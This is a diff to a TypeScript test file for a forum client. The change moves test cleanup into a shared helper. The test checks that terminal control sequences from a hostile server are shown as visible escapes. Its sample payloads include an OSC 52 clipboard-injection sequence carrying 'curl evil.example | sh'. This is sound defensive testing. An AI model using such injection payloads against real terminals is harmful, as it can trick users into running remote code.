@@ -7,8 +7,8 @@
  */
 import { decode, encodeServerMessage, simpleReply, type Reply } from 'forum-protocol';
 import { listen, type RudpServer } from 'rudpx';
-import { afterEach, describe, expect, it } from 'vitest';
-import { cleanup, runClient, tempDir } from './forum-processes.js';
+import { describe, expect, it } from 'vitest';
+import { cleanupAfterEach, runClient, tempDir } from './forum-processes.js';
 
 const EVIL = [
   `\x1b]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}\x07`,
@@ -23,12 +23,7 @@ const EVIL = [
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
 describe('forum-client against a server sending terminal control sequences (real client process)', () => {
-  const dirs: string[] = [];
-  const closers: (() => Promise<void>)[] = [];
-  afterEach(async () => {
-    await Promise.all(closers.splice(0).map((c) => c()));
-    await cleanup(...dirs.splice(0));
-  });
+  const { dirs, closers } = cleanupAfterEach();
 
   it('prints them as visible <U+XXXX>, in replies, a notice and the close reason alike', async () => {
     let rdtEnds: 'close' | 'notice' = 'close';
